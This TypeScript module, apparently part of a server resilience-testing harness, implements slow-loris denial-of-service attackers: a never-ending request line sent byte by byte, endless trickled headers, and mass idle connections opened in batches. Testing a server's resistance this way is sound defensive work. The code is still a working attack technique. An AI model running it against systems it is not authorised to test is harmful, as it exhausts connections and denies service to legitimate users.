import { setTimeout as sleep } from "node:timers/promises";
import type { Attacker, Means, Outcomes, Target } from "../attack.ts";
import { type Client, addressOf, event, open, range, reading, settle } from "../client.ts";

/** Opens the connections, and lets each send what a function gives for the next time, one piece a pause. */
async function trickle(
  target: Target,
  means: Means,
  outcomes: Outcomes,
  pieceOf: (turn: number) => string,
): Promise<void> {
  const clients = range(means.sockets).map((index) => {
    const socket = open(target, addressOf(index, means));
    return reading(socket);
  });
  let turn = 0;
  const send = () => {
    const piece = pieceOf(turn++);
    for (const { socket } of clients) if (socket.writable) socket.write(piece);
  };
  send();
  const timer = setInterval(send, means.pauseMs);
  await settle(clients, means, outcomes);
  clearInterval(timer);
}

const LINE = "GET /metrics?with=a&query=that&never=ends";

/** Slow-loris: the request line comes byte by byte and never ends. */
export const slowRequestLine: Attacker = (target, means, outcomes) =>
  trickle(target, means, outcomes, (turn) => LINE[turn] ?? "x");

/** Slow-loris: a header a pause, and never the last one. */
export const slowHeaders: Attacker = (target, means, outcomes) =>
  trickle(target, means, outcomes, (turn) =>
    turn === 0 ? "GET /metrics HTTP/1.1\r\nHost: x\r\n" : `X-${String(turn)}: x\r\n`,
  );

/** So many connections are opened at a time: the queue of a listening socket holds 511. */
const AT_A_TIME = 250;

const CONNECTING_MS = 10_000;

/** Connections that send nothing. */
export const idle: Attacker = async (target, means, outcomes) => {
  const clients: Client[] = [];
  const end = performance.now() + means.longestMs;
  // A target that takes no more connections lets further ones wait.
  while (clients.length < means.sockets && performance.now() < end) {
    const batch = range(Math.min(AT_A_TIME, means.sockets - clients.length)).map((index) =>
      reading(open(target, addressOf(clients.length + index, means))),
    );
    clients.push(...batch);
    const connected = Promise.all(batch.map(({ socket }) => event(socket, "connect", "close")));
    await Promise.race([connected, sleep(CONNECTING_MS, undefined, { ref: false })]);
  }
  await settle(clients, means, outcomes);
};
